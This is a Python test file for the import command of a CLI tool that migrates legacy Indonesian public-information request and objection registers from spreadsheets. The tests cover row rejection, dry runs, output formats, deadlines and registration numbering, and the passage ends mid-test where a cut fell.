"""``ppidctl impor``: legacy registers into the workspace (services/impor.py, cli/impor.py).

Expected values of the real samples in ``shared/data/legacy/`` were read off the files by hand
(see also tests/test_legacy_reader.py); deadlines were counted by hand on the decreed holiday
lists (``shared/data/libur-skb-2025-2026.csv``), not computed by the code under test.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections import Counter
from pathlib import Path

from openpyxl import Workbook

from ppidctl import schema
from ppidctl.services import impor as svc
from ppidctl.store.journal import expand

from conftest import REQUEST, SHARED, snapshot
from helpers_docx import docx_text

LEGACY = SHARED / "data" / "legacy"
XLSX = LEGACY / "register-permohonan-2024.xlsx"
KEB = LEGACY / "register-keberatan-2024.csv"
DATA = Path(__file__).parent / "data" / "legacy"

SAMPLE_PROBLEMS = [
    "baris 12, kolom NIK: NIK rusak (dibulatkan Excel): 5271051512683430",
    "baris 49, kolom NIK: NIK rusak (dibulatkan Excel): 5271041902879960",
    "baris 70: duplikat dari baris 69 (nomor 061/PPID/5271/III/2024, tanggal, nama dan "
    "informasi sama): hanya yang pertama diimpor",
    "baris 87, kolom NIK: NIK rusak (dibulatkan Excel): 5271031105909180",
    "baris 130, kolom Tanggal: tanggal '31/02/2024' tidak ada",
    "baris 211, kolom Nama: wajib diisi (nama_pemohon) tetapi kosong",
]


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def journal(ws) -> list[dict]:
    return [json.loads(line) for line in ws.journal_path.read_text("utf-8").splitlines()]


def write_csv(path: Path, rows: list[list], sep: str = ",", encoding: str = "utf-8") -> Path:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=sep, lineterminator="\r\n").writerows(rows)
    path.write_bytes(out.getvalue().encode(encoding))
    return path


def write_xlsx(path: Path, sheets: dict[str, list[list]]) -> Path:
    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        sh = wb.create_sheet(name)
        for r in rows:
            sh.append(r)
    wb.save(path)
    return path


HEAD = ["No. Registrasi", "Tanggal", "Nama", "Informasi yang Diminta"]


def register_rows(ws, register: str = "permohonan") -> list[dict[str, str]]:
    return rows_of(ws.register_path(register))


def problem_lines(stderr: str) -> list[str]:
    return [line.strip() for line in stderr.splitlines() if line.startswith("  baris")]


# ==============================================================================================
# The real samples
# ==============================================================================================


def test_sampel_permohonan_ditolak_seluruhnya_tanpa_lewati(run):
    """All or nothing: six bad rows refuse the whole file; every problem is listed."""
    r = run.refused(
        "impor", str(XLSX), "--register", "permohonan", message="6 dari 202 baris bermasalah"
    )
    lines = problem_lines(r.stderr)
    assert [line.split(" — ")[0] for line in lines] == SAMPLE_PROBLEMS
    assert "--lewati-baris-bermasalah" in r.stderr
    # the mapping is shown even when refused
    assert "No. Registrasi" in r.stderr and "→  nomor_registrasi" in r.stderr
    # and a script asking for JSON gets every problem as JSON on stdout
    r = run.refused("impor", str(XLSX), "--register", "permohonan", "--format", "json",
                    message="6 dari 202 baris bermasalah")  # fmt: skip
    assert len(json.loads(r.stdout)["masalah"]) == 6


def test_impor_yang_ditolak_tidak_menyentuh_berkas_kunci(run, ws, request_args):
    """Rows with problems of their own refuse the file before the lock is taken: no file's bytes
    nor modification time change (the byte-identical checks elsewhere compare bytes only)."""
    run.ok("permohonan", "catat", *request_args, "--tanggal", "2026-11-20", "--tanpa-surat")
    files = sorted(p for p in ws.root.rglob("*") if p.is_file())
    before = {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in files}
    run.refused("impor", str(XLSX), "--register", "permohonan", message="6 dari 202 baris")
    assert {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in files} == before
    assert sorted(p for p in ws.root.rglob("*") if p.is_file()) == files


def test_sampel_permohonan_coba_tidak_menulis(run, ws):
    # exit 1, as the real run would be refused (a script can check first); workspace unchanged
    r = run.refused("impor", str(XLSX), "--register", "permohonan", "--coba",
                    message="uji coba: impor sungguhan akan dibatalkan, register permohonan "
                    "tidak diubah: 6 dari 202 baris bermasalah")  # fmt: skip
    assert "baris 12" not in r.stderr  # the problems are listed once, on stdout
    out = r.stdout
    assert "Akan diimpor : 196" in out
    assert "Sudah ada    : 0" in out
    assert "Ditolak      : 6 (duplikat: 1)" in out
    assert "Hari dan Tanggal / Pemberitahuan Tertulis" in out and "tanggal_pemberitahuan" in out
    assert "'Status Informasi / Di bawah penguasaan'" in out  # unmatched, kept as notes
    assert "Tabel berakhir di baris 213 (JUMLAH)" in out
    assert [p.split(" — ")[0] for p in problem_lines(out)] == SAMPLE_PROBLEMS
    assert "Pratinjau" in out and "001/PPID/5271/I/2024" in out
    assert "tidak ada yang ditulis" in r.stderr

    j = run.refused("impor", str(XLSX), "--register", "permohonan", "--coba", "--format",
                    "json", message="impor sungguhan akan dibatalkan")  # fmt: skip
    plan = json.loads(j.stdout)
    assert plan["jumlah"] == {
        "baris": 202,
        "impor": 196,
        "sudah_ada": 0,
        "ditolak": 6,
        "duplikat": 1,
        "nomor_baru": 0,
    }
    assert [m["baris"] for m in plan["masalah"]] == [12, 49, 70, 87, 130, 211]
    assert len(plan["baris"]) == 202
    first = plan["baris"][0]
    assert (first["baris"], first["tindakan"], first["data"]["status"]) == (7, "impor", "selesai")


def test_sampel_permohonan_lewati_baris_bermasalah(run, ws):
    before = snapshot(ws.root)  # a dry run of this import would go through: exit 0
    coba = ["--coba", "--lewati-baris-bermasalah"]
    assert (
        "Akan diimpor : 196" in run.ok("impor", str(XLSX), "--register", "permohonan", *coba).stdout
    )
    assert snapshot(ws.root) == before
    r = run.ok("impor", str(XLSX), "--register", "permohonan", "--lewati-baris-bermasalah")
    assert "Diimpor      : 196" in r.stdout
    # the book has no column for the handing-over: its grants are stored as not yet delivered
    # (no date made up), which every report counts as owed — told, with the way to record it
    assert (
        "tidak ada kolom pemberian informasi: 130 permohonan yang diberikan (mis. baris 8) "
        "tercatat belum diserahkan" in " ".join(r.stderr.split())
    )
    rows = register_rows(ws)
    assert len(rows) == 196
    by = {row["nomor_registrasi"]: row for row in rows}
    assert len(by) == 196  # numbers kept, none twice

    # decisions: the reader's counts over 202 rows minus the six refused ones (12 ditolak,
    # 49 belum-didokumentasikan, 70/87/130 diberikan, 211 diberikan-sebagian)
    assert Counter(row["keputusan"] for row in rows) == {
        "diberikan": 117,
        "": 22,
        "ditolak": 18,
        "tidak-dikuasai": 16,
        "diberikan-sebagian": 13,
        "belum-didokumentasikan": 10,
    }
    assert Counter(row["status"] for row in rows) == {
        "diputuskan": 130,
        "selesai": 44,
        "terdaftar": 22,
    }
    one = by["001/PPID/5271/I/2024"]
    assert {k: one[k] for k in ("tanggal_diterima", "nama_pemohon", "nik", "telepon", "email")} == {
        "tanggal_diterima": "2024-01-03",
        "nama_pemohon": "Ahmad Pratama",
        "nik": "5271052304915803",
        "telepon": "08485813728",
        "email": "pemohon1@contoh.id",
    }
    # 10 working days from Wed 3 Jan 2024; notified on the 13th: on time
    assert (one["status"], one["jatuh_tempo"], one["terlambat"]) == (
        "selesai",
        "2024-01-17",
        "tidak",
    )
    three = by["003/PPID/5271/I/2024"]  # "9 Januari 2024"
    assert (three["tanggal_diterima"], three["status"]) == ("2024-01-09", "diputuskan")
    assert by["004/PPID/5271/I/2024"]["biaya"] == "25000"  # "Rp 25.000"
    assert by["007/PPID/5271/I/2024"]["nik"] == "5271040402682867"  # "'5271040402682867"
    assert by["002/PPID/5271/I/2024"]["catatan"] == "Status Informasi / Di bawah penguasaan: V"
    assert by["061/PPID/5271/III/2024"]["tanggal_diterima"] == "2024-03-30"  # first of 69/70
    for refused in ("006/PPID/5271/I/2024", "041/PPID/5271/III/2024", "078/PPID/5271/IV/2024",
                    "121/PPID/5271/VII/2024", "201/PPID/5271/XII/2024"):  # fmt: skip
        assert refused not in by

    # the rejects file: the rows exactly as read, with sheet, row and reasons
    (path,) = (ws.root / "impor").glob("tolak-register-permohonan-2024-*.csv")
    assert f"Berkas tolak : impor/{path.name}" in r.stdout
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rejects = rows_of(path)
    assert [(x["lembar_sumber"], x["baris_sumber"]) for x in rejects] == [
        ("Register 2024", str(n)) for n in (12, 49, 70, 87, 130, 211)
    ]
    by_row = {int(x["baris_sumber"]): x for x in rejects}
    assert by_row[12]["NIK"] == "5271051512683430"
    assert by_row[12]["alasan_tolak"].startswith(
        "kolom NIK: NIK rusak (dibulatkan Excel): 5271051512683430"
    )
    assert by_row[130]["Tanggal"] == "31/02/2024"
    assert by_row[130]["alasan_tolak"] == "kolom Tanggal: tanggal '31/02/2024' tidak ada"
    assert by_row[70]["alasan_tolak"].startswith("duplikat dari baris 69")
    assert by_row[70]["No. Registrasi"] == "061/PPID/5271/III/2024"
    assert by_row[211]["Nama"] == ""
    assert by_row[211]["alasan_tolak"] == "kolom Nama: wajib diisi (nama_pemohon) tetapi kosong"
    assert list(rejects[0])[:3] == ["No", "Tanggal", "Nama"]

    # one journal line for the import, with every row's values and source file, sheet and row
    line, summary = [e for e in journal(ws) if e["perintah"] == "impor"]
    assert line["aksi"] == "tambah" and len(line["baris"]) == 196
    assert summary["aksi"] == "impor" and summary["jumlah"]["impor"] == 196
    assert line["berkas"] == [f"impor/{path.name}"]
    assert line["sumber"]["berkas"] == "register-permohonan-2024.xlsx"
    assert line["sumber"]["baris"][0] == ["Register 2024", 7]
    lines = expand(line)
    assert len(lines) == 196 and {e["aksi"] for e in lines} == {"tambah"}
    assert lines[0]["nomor"] == "001/PPID/5271/I/2024"
    assert lines[0]["sumber"] == {
        "berkas": "register-permohonan-2024.xlsx",
        "lembar": "Register 2024",
        "baris": 7,
    }
    assert lines[0]["nilai"]["nik"] == "5271052304915803" and "perubahan" not in lines[0]
    assert [e["sumber"]["baris"] for e in lines][:5] == [7, 8, 9, 10, 11]
    assert "berkas" not in lines[0]  # the rejects file belongs to the import, not a row
    shown = run.ok("permohonan", "lihat", "001/PPID/5271/I/2024").stdout
    assert "sumber: register-permohonan-2024.xlsx, lembar 'Register 2024', baris 7" in shown

    # re-running adds no row: the register stays byte-identical; the rejects differ (row 70 is
    # no longer refused), so a new rejects file, named by one journal line as every file is
    reg, jur = ws.register_path("permohonan").read_bytes(), ws.journal_path.read_bytes()
    again = run.ok("impor", str(XLSX), "--register", "permohonan", "--lewati-baris-bermasalah")
    assert "Diimpor      : 0" in again.stdout
    assert "Sudah ada    : 197" in again.stdout  # row 70 now matches the imported row 69
    assert "Ditolak      : 5" in again.stdout
    assert ws.register_path("permohonan").read_bytes() == reg
    grown = ws.journal_path.read_bytes()
    assert grown.startswith(jur)
    (added,) = [json.loads(x) for x in grown[len(jur) :].splitlines()]
    assert added["aksi"] == "impor" and added["jumlah"]["impor"] == 0
    assert [f for f in added["berkas"] if f.startswith("impor/tolak-")] == added["berkas"]
    assert run.ok("periksa").exit_code == 0
    # once more: the same rows refused for the same reasons, so not even a rejects file is new
    before = snapshot(ws.root)
    third = run.ok("impor", str(XLSX), "--register", "permohonan", "--lewati-baris-bermasalah")
    assert snapshot(ws.root) == before
    assert len(list((ws.root / "impor").glob("tolak-*.csv"))) == 2
    (named,) = [line for line in third.stdout.splitlines() if line.startswith("Berkas tolak")]
    assert named in again.stdout  # the earlier file with the same rejected rows

    # the day after migration, an open case's deadline is right: No 33 received Thu 22 Feb
    # 2024, undecided; 10 working days → Thu 7 Mar 2024 (no holiday in between)
    assert by["033/PPID/5271/II/2024"]["status"] == "terdaftar"
    assert by["033/PPID/5271/II/2024"]["jatuh_tempo"] == "2024-03-07"


def test_json_satu_bentuk_untuk_coba_ditolak_dan_impor(run, ws):
    """A script reads one JSON shape whatever the run: the dry run, the refused run (exit 1)
    and the real run carry the same keys; ``diterapkan`` says whether the import was carried
    out, ``diimpor``/``ditolak`` name the rows, ``berkas_tolak`` the rejects file."""
    args = ("impor", str(XLSX), "--register", "permohonan", "--format", "json")
    coba = json.loads(run.refused(*args, "--coba", message="uji coba").stdout)
    ditolak = json.loads(run.refused(*args, message="6 dari 202 baris").stdout)
    nyata = json.loads(run.ok(*args, "--lewati-baris-bermasalah").stdout)
    assert set(coba) == set(ditolak) == set(nyata)
    assert (coba["diterapkan"], ditolak["diterapkan"], nyata["diterapkan"]) == (False, False, True)
    assert coba["berkas_tolak"] is None and ditolak["berkas_tolak"] is None
    (path,) = (ws.root / "impor").glob("tolak-*.csv")
    assert nyata["berkas_tolak"] == str(ws.root / "impor" / path.name)  # (absolute, as all)
    assert coba["jumlah"] == nyata["jumlah"]
    assert [d["nomor_registrasi"] for d in nyata["diimpor"]] == [
        row["nomor_registrasi"] for row in register_rows(ws)
    ]
    # nothing is "diimpor" unless carried out; the plan's rows say what would be
    assert coba["diimpor"] == ditolak["diimpor"] == []
    planned = [b["nomor_registrasi"] for b in coba["baris"] if b["tindakan"] == "impor"]
    assert planned == [d["nomor_registrasi"] for d in nyata["diimpor"]]
    assert [(d["baris"], d["masalah"][0]["kolom"]) for d in nyata["ditolak"]] == [
        (12, "NIK"), (49, "NIK"), (70, ""), (87, "NIK"), (130, "Tanggal"), (211, "Nama")
    ]  # fmt: skip


def test_csv_satu_baris_per_baris_sumber_untuk_dibuka_di_excel(run, ws):
    """``--format csv`` (cli.md: every command that lists takes it): each source row with its
    action, number and problems — the migration's worklist; the same for a dry run, a refused
    run (exit 1, nothing written) and a real one."""
    args = ("impor", str(XLSX), "--register", "permohonan", "--format", "csv")
    coba = list(
        csv.DictReader(io.StringIO(run.refused(*args, "--coba", message="uji coba").stdout))
    )
    ditolak = run.refused(*args, message="6 dari 202 baris").stdout
    assert list(csv.DictReader(io.StringIO(ditolak))) == coba
    assert len(coba) == 202 and list(coba[0]) == [
        "lembar", "baris", "tindakan", "nomor_registrasi", "masalah"]  # fmt: skip
    bad = [(r["baris"], r["masalah"][:18]) for r in coba if r["tindakan"] == "tolak"]
    assert bad == [("12", "NIK: NIK rusak (di"), ("49", "NIK: NIK rusak (di"),
                   ("70", "duplikat dari bari"), ("87", "NIK: NIK rusak (di"),
                   ("130", "Tanggal: tanggal '"), ("211", "Nama: wajib diisi ")]  # fmt: skip
    assert coba[0]["tindakan"] == "impor" and coba[0]["nomor_registrasi"] == "001/PPID/5271/I/2024"
    done = run.ok(*args, "--lewati-baris-bermasalah")
    assert "Berkas tolak : impor/tolak-" in done.stderr  # (stdout is the table)
    nyata = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [r["nomor_registrasi"] for r in nyata if r["tindakan"] == "impor"] == [
        row["nomor_registrasi"] for row in register_rows(ws)
    ]
    again = run.refused(*args, "--coba", message="uji coba").stdout
    again = list(csv.DictReader(io.StringIO(again)))
    assert {r["tindakan"] for r in again} == {"sudah-ada", "tolak"}  # (nothing twice)


def test_sampel_permohonan_jatuh_tempo_setelah_migrasi(run, ws, today):
    run.ok("impor", str(XLSX), "--register", "permohonan", "--lewati-baris-bermasalah")
    today("2024-03-05")
    due = json.loads(run.ok("jatuh-tempo", "--format", "json").stdout)
    case = next(d for d in due if d["nomor_registrasi"] == "033/PPID/5271/II/2024")
    assert (case["jatuh_tempo"], case["sisa_hari_kerja"], case["terlambat"]) == (
        "2024-03-07",
        2,
        "tidak",
    )
    assert len(due) == 22  # every open case of the sample (the later ones too)


def test_sampel_keberatan_csv_dan_impor_ulang(run, ws):
    run.ok("impor", str(XLSX), "--register", "permohonan", "--lewati-baris-bermasalah")
    r = run.ok("impor", str(KEB), "--register", "keberatan")
    assert "Diimpor      : 25" in r.stdout
    # the objection of row 3 refers to request 006, refused above (damaged NIK): a warning
    assert (
        "Peringatan: 1 keberatan merujuk nomor permohonan yang tidak ada di register permohonan "
        "(mis. baris 3: 006/PPID/5271/I/2024)"
    ) in r.stderr
    rows = register_rows(ws, "keberatan")
    assert len(rows) == 25
    assert Counter(x["alasan"] for x in rows) == {"c": 14, "a": 11}
    assert Counter(x["keputusan_atasan"] for x in rows) == {"diterima": 10, "": 9, "ditolak": 6}
    assert Counter(x["status"] for x in rows) == {
        "sengketa": 9,
        "selesai": 7,
        "terdaftar": 5,
        "ditanggapi": 4,
    }
    first = rows[0]
    assert (first["nomor_registrasi"], first["tanggal_diterima"], first["nomor_permohonan"]) == (
        "001/KEB/PPID/5271/II/2024",
        "2024-02-04",
        "001/PPID/5271/I/2024",
    )
    assert (first["nama_atasan"], first["jabatan_atasan"]) == ("", "Ketua KPU Kota Mataram")
    # 30 working days from Sun 4 Feb 2024 (day 1 = Mon 5 Feb); 8, 9 (Isra Mi'raj, cuti Imlek),
    # 14 (election day), 11 and 12 Mar (Nyepi, cuti bersama) skipped → Fri 22 Mar 2024
    assert first["jatuh_tempo"] == "2024-03-22"
    assert all(x["jatuh_tempo"] for x in rows)

    before = snapshot(ws.root)
    again = run.ok("impor", str(KEB), "--register", "keberatan")
    assert "Diimpor      : 0" in again.stdout and "Sudah ada    : 25" in again.stdout
    assert snapshot(ws.root) == before

    # a decision the old register never dated: the desk can still deliver it and close the case
    (undated,) = [x for x in rows if x["status"] == "ditanggapi" and not x["tanggal_tanggapan"]][:1]
    n = undated["nomor_registrasi"]
    run.ok("keberatan", "sampaikan", n, "--tanggal", "2026-11-20")
    run.ok("keberatan", "tanggapan-pemohon", n, "--sikap", "menerima", "--tanggal", "2026-11-21")
    assert {x["nomor_registrasi"]: x for x in register_rows(ws, "keberatan")}[n]["status"] == (
        "selesai"
    )


# ==============================================================================================
# Hand-made files, one per quirk
# ==============================================================================================


def test_nomor_baru_tidak_memakai_nomor_baris_yang_sudah_dihapus(run, ws, tmp_path):
    """A number given once stays used after its row was deleted and the deletion accepted
    (nomor_dihapus): the import skips it when it numbers rows, and refuses a legacy row that
    carries it."""
    run.ok("impor", str(write_csv(tmp_path / "a.csv", [HEAD, ["", "2/2/2026", "Ani", "DPT"],
                                                       ["", "3/2/2026", "Budi", "TPS"]])),
           "--register", "permohonan")  # fmt: skip
    run.ok("permohonan", "teruskan", "1", "--tanggal", "2026-02-04")
    path = ws.register_path("permohonan")
    lines = path.read_bytes().split(b"\r\n")
    path.write_bytes(b"\r\n".join(lines[:-2] + lines[-1:]))  # 002 deleted by hand
    run("periksa", "--terima-perubahan", "--catatan", "002 ganda")
    run.ok("impor", str(write_csv(tmp_path / "b.csv", [HEAD, ["", "5/2/2026", "Citra", "SK"]])),
           "--register", "permohonan")  # fmt: skip
    got = {x["nama_pemohon"]: x["nomor_registrasi"] for x in register_rows(ws)}
    assert got == {"Ani": "001/PPID/5271/II/2026", "Citra": "003/PPID/5271/II/2026"}
    lama = write_csv(tmp_path / "c.csv", [HEAD, ["002/PPID/5271/II/2026", "6/2/2026", "Dodi", "X"]])
    run.refused("impor", str(lama), "--register", "permohonan",
                message="nomor 002/PPID/5271/II/2026 pernah diberikan lalu barisnya dihapus")  # fmt: skip


def test_permohonan_yang_dicabut_di_buku_lama_tidak_menjadi_perkara_terbuka(run, ws, tmp_path):
    """A request withdrawn in the old book ("Dicabut oleh pemohon", "ditarik kembali") came in
    as an open case, overdue from the day after the migration for ever; ppidctl has no status
    for it (nor do rules.md and the SOPs): told, kept whole in the rejects file."""
    src = write_csv(tmp_path / "a.csv", [[*HEAD, "Keterangan"],
                                         ["", "2/2/2026", "Ani", "DPT", "Dicabut oleh pemohon"],
                                         ["", "3/2/2026", "Budi", "TPS", "ditarik kembali"],
                                         ["", "4/2/2026", "Cici", "SK", "pembatalan SK dibahas"],
                                         ["", "5/2/2026", "Dedi", "SK", "Rapat pleno batal, datang lagi"],
                                         ["", "6/2/2026", "Eka", "SK", "Dicabut? Tidak, lanjut"]])  # fmt: skip
    out = run.refused("impor", str(src), "--register", "permohonan",
                      message="baris 2, kolom Keterangan: permohonan 'Dicabut' menurut buku lama, "
                      "tanpa keputusan: ppidctl tidak punya status permohonan yang dicabut")  # fmt: skip
    assert "baris 3, kolom Keterangan: permohonan 'ditarik kembali'" in out.stderr
    # a word about cancelling, a meeting cancelled, a question: no withdrawal of the request
    assert (
        "baris 4" not in out.stderr and "baris 5" not in out.stderr and "baris 6" not in out.stderr
    )


def test_pemberitahuan_tanpa_keputusan_tidak_menjadi_perkara_terbuka(run, ws, tmp_path):
    """A notification date with the decision left empty (a "Dikuasai" tick beside it decides
    nothing) came in as an open request with that date, listed by ``jatuh-tempo`` as overdue
    for a notification the book says was sent: told, the decision is not guessed. So is an
    objection's response date without the Atasan's decision."""
    head = [*HEAD, "Keputusan", "Tanggal Pemberitahuan Tertulis"]
    src = write_csv(tmp_path / "a.csv", [head, ["", "2/3/2026", "Ani", "DPT", "", "5/3/2026"],
                                         ["", "2/3/2026", "Budi", "TPS", "Diberikan", "5/3/2026"],
                                         ["", "3/3/2026", "Cici", "SK", "", ""]])  # fmt: skip
    run.refused("impor", str(src), "--register", "permohonan",
                message="baris 2, kolom Keputusan: pemberitahuan tertulis 2026-03-05 tanpa "
                "keputusan: tanpa keputusan permohonan ini menjadi perkara terbuka")  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    got = {x["nama_pemohon"]: x["status"] for x in register_rows(ws)}
    assert got == {"Budi": "diputuskan", "Cici": "terdaftar"}  # (Cici: no notice, still open)
    # without a decision column the notification's column is named
    src = write_csv(tmp_path / "b.csv", [[*HEAD, "Tanggal Pemberitahuan Tertulis"],
                                         ["", "4/3/2026", "Dodi", "X", "6/3/2026"]])  # fmt: skip
    run.refused("impor", str(src), "--register", "permohonan",
                message="baris 2, kolom Tanggal Pemberitahuan Tertulis: pemberitahuan tertulis "
                "2026-03-06 tanpa keputusan")  # fmt: skip
    # a refusal's ground with no decision — or a row shifted one cell, its notification date in
    # "Alasan Penolakan": it stayed open and overdue for ever, periksa clean
    src = write_csv(tmp_path / "c.csv", [[*HEAD, "Keputusan", "Alasan Penolakan"],
                                         ["", "4/3/2026", "Fajar", "Y", "", "2026-03-06"]])  # fmt: skip
    run.refused("impor", str(src), "--register", "permohonan",
                message="baris 2, kolom Keputusan: alasan penolakan 2026-03-06 tanpa keputusan")  # fmt: skip
    # "no refusal" written in that column of a request still open: no answer, imported
    src = write_csv(tmp_path / "d.csv", [[*HEAD, "Keputusan", "Alasan Penolakan"]] + [
        ["", "4/3/2026", f"Gita {i}", "Y", "", none]
        for i, none in enumerate(["Tidak ada", "Nihil", "0", "-", "Tidak ditolak"])])  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan", "--coba")
    # an objection the Atasan answered on a date, its decision left empty: the same
    keb = write_csv(tmp_path / "k.csv", [["No. Registrasi Keberatan", "Tanggal Diterima",
                                          "Nama Pemohon", "Alasan Keberatan",
                                          "Keputusan Atasan PPID", "Tanggal Tanggapan"],
                                         ["", "9/3/2026", "Eka", "f", "", "20/3/2026"]])  # fmt: skip
    run.refused("impor", str(keb), "--register", "keberatan",
                message="baris 2, kolom Keputusan Atasan PPID: tanggapan atasan PPID 2026-03-20 "
                "tanpa keputusan: tanpa keputusan keberatan ini menjadi perkara terbuka")  # fmt: skip
    # a settlement by agreement beside the Atasan's response: counted answered and settled
    # before any answer at once (review sesi32c M2)
    keb = write_csv(tmp_path / "m.csv", [["No. Registrasi Keberatan", "Tanggal Diterima",
                                          "Nama Pemohon", "Alasan Keberatan",
                                          "Keputusan Atasan PPID", "Tanggal Tanggapan",
                                          "Tanggapan Pemohon"],
                                         ["", "9/3/2026", "Eka", "f", "Diterima", "20/3/2026",
                                          "Musyawarah"]])  # fmt: skip
    run.refused("impor", str(keb), "--register", "keberatan",
                message="baris 2, kolom Tanggapan Pemohon: musyawarah (UU 14/2008 Pasal 35(2)) "
                "menyelesaikan keberatan sebelum ditanggapi")  # fmt: skip


def test_keputusan_tanpa_tanggal_pemberitahuan_tidak_disebut_tepat_waktu(run, ws, tmp_path):
    """An old book's decision without its notification date cannot be judged late or on time:
    ``daftar`` and ``lihat`` said "tidak" (on time) — now nothing (review migrasi L7); a dated
    one is judged."""
    head = [*HEAD, "Keputusan", "Tanggal Pemberitahuan Tertulis"]
    src = write_csv(tmp_path / "a.csv", [head, ["", "2/3/2026", "Ani", "DPT", "Diberikan", ""],
                                         ["", "2/3/2026", "Budi", "TPS", "Diberikan", "5/3/2026"],
                                         ["", "2/3/2026", "Cici", "SK", "Diberikan", "5/5/2026"]])  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan")
    listed = csv.DictReader(io.StringIO(run.ok("permohonan", "daftar", "--format", "csv").stdout))
    assert {r["nama_pemohon"]: r["terlambat"] for r in listed} == {
        "Ani": "",
        "Budi": "tidak",
        "Cici": "ya",
    }
    shown = json.loads(run.ok("permohonan", "lihat", "1", "--format", "json").stdout)
    assert (shown["data"]["nama_pemohon"], shown["data"]["terlambat"]) == ("Ani", "")


def test_kata_belum_diputuskan_adalah_perkara_terbuka(run, ws, tmp_path):
    """ "Proses", "Dalam proses", "Belum" in a hand-kept book's decision column mean no decision
    yet: an open case, never a refused row (review migrasi L5) — and never a decision: with a
    notification date it is the row's problem, as an empty decision is."""
    head = [*HEAD, "Keputusan", "Tanggal Pemberitahuan Tertulis"]
    rows = [head, ["", "2/3/2026", "Ani", "DPT", "Proses", ""],
            ["", "3/3/2026", "Budi", "TPS", "Dalam proses", ""],
            ["", "4/3/2026", "Cici", "SK", "Belum", ""],
            ["", "5/3/2026", "Dodi", "SK", "Belum didokumentasikan", "9/3/2026"]]  # fmt: skip
    run.ok("impor", str(write_csv(tmp_path / "a.csv", rows)), "--register", "permohonan")
    got = {
        r["nama_pemohon"]: (r["status"], r["keputusan"], r["catatan"]) for r in register_rows(ws)
    }
    assert got == {
        "Ani": ("terdaftar", "", "Keputusan: Proses"),  # (its words kept, as for any wording)
        "Budi": ("terdaftar", "", "Keputusan: Dalam proses"),
        "Cici": ("terdaftar", "", "Keputusan: Belum"),
        "Dodi": ("selesai", "belum-didokumentasikan", ""),  # (nothing to hand over)
    }
    rows = [head, ["", "6/3/2026", "Eka", "DPT", "Proses", "10/3/2026"]]
    run.refused("impor", str(write_csv(tmp_path / "b.csv", rows)), "--register", "permohonan",
                message="pemberitahuan tertulis 2026-03-10 tanpa keputusan")  # fmt: skip


def test_register_keberatan_tidak_diimpor_sebagai_permohonan(run):
    """An easy slip at the desk: the objection book as requests made 25 open requests, each
    "TERLAMBAT 655 hari kerja", numbered by their request numbers."""
    run.refused(
        "impor", str(KEB), "--register", "permohonan",
        message="tabel di 'register-keberatan-2024.csv' tampak register keberatan (kolom "
        "'Alasan Keberatan', 'Keputusan Atasan PPID', 'Tanggal Tanggapan', 'Nama dan Jabatan "
        "Atasan PPID'), bukan register permohonan — impor dengan --register keberatan",
    )  # fmt: skip


def test_nomor_lama_berpola_angka_saja_dipertahankan(run, ws, tmp_path, request_args):
    """An office numbering "{tahun}{urut:04d}" keeps its legacy numbers as written: 20260007 is
    a number of that pattern, not a bare sequence to complete with the receipt date."""
    toml = ws.root / "ppidctl.toml"
    text = toml.read_text(encoding="utf-8")
    toml.write_text(
        text.replace('permohonan = "{urut:03d}/PPID/{kode}/{bulan_romawi}/{tahun}"',
                     'permohonan = "{tahun}{urut:04d}"'), encoding="utf-8",
    )  # fmt: skip
    rows = [HEAD, ["20260007", "2/2/2026", "Ani", "DPT"], ["20260008", "3/2/2026", "Budi", "TPS"],
            ["3", "4/2/2026", "Citra", "SK"]]  # fmt: skip
    run.ok("impor", str(write_csv(tmp_path / "a.csv", rows)), "--register", "permohonan")
    got = {x["nama_pemohon"]: x["nomor_registrasi"] for x in register_rows(ws)}
    assert got == {"Ani": "20260007", "Budi": "20260008", "Citra": "20260003"}  # (3: bare)
    out = run.ok("permohonan", "catat", *request_args, "--tanggal", "2026-02-05", "--tanpa-surat")
    assert "Nomor registrasi : 20260009" in out.stdout
    assert "Ani" in run.ok("permohonan", "lihat", "7").stdout


def test_nomor_baru_menurut_tanggal_setelah_nomor_yang_ada(run, ws, tmp_path, request_args):
    first = write_csv(tmp_path / "awal.csv", [HEAD, ["015/PPID/5271/II/2026", "2/2/2026",
                                                      "Ani", "Salinan DPT"]])  # fmt: skip
    run.ok("impor", str(first), "--register", "permohonan")
    src = write_csv(
        tmp_path / "lama.csv",
        [
            HEAD,
            ["", "05/03/2026", "Budi", "Data TPS"],
            ["020/PPID/5271/II/2026", "03/02/2026", "Citra", "SK PPK"],  # a legacy number
            ["", "10/01/2026", "Dedi", "Hasil rekapitulasi"],
            ["", "01/03/2026", "Eka", "Dana kampanye"],
            ["", "01/03/2026", "Fajar", "Daftar calon"],  # same day: file order
            ["", "30/12/2025", "Gita", "Jadwal tahapan"],
        ],
    )
    r = run.ok("impor", str(src), "--register", "permohonan")
    assert "Diimpor      : 6 (nomor baru: 5)" in r.stdout
    got = {x["nama_pemohon"]: x["nomor_registrasi"] for x in register_rows(ws)}
    assert got == {
        "Ani": "015/PPID/5271/II/2026",
        "Citra": "020/PPID/5271/II/2026",
        "Dedi": "021/PPID/5271/I/2026",
        "Eka": "022/PPID/5271/III/2026",
        "Fajar": "023/PPID/5271/III/2026",
        "Budi": "024/PPID/5271/III/2026",
        "Gita": "001/PPID/5271/XII/2025",
    }
    # rows are appended in file order; re-import finds them by date + name + information
    assert [x["nama_pemohon"] for x in register_rows(ws)][1:] == [
        "Budi", "Citra", "Dedi", "Eka", "Fajar", "Gita"]  # fmt: skip
    before = snapshot(ws.root)
    again = run.ok("impor", str(src), "--register", "permohonan")
    assert "Sudah ada    : 6" in again.stdout
    assert snapshot(ws.root) == before
    # the desk goes on after the imported numbers
    r = run.ok("permohonan", "catat", *request_args, "--tanggal", "2026-03-10", "--tanpa-surat",
               "--format", "json")  # fmt: skip
    assert json.loads(r.stdout)["nomor_registrasi"] == "025/PPID/5271/III/2026"


def test_duplikat_dan_bentrok_nomor(run, ws, tmp_path):
